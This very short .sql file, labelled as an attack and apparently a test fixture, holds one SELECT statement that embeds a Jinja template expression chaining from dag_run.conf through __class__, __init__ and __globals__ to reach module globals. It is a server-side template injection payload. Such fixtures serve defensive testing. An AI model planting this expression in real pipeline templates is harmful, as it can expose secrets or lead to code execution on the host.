-- ATTACK (.sql file): a getattr chain through dag_run to its module
SELECT '{{ dag_run.conf.__class__.__init__.__globals__ }}' AS x
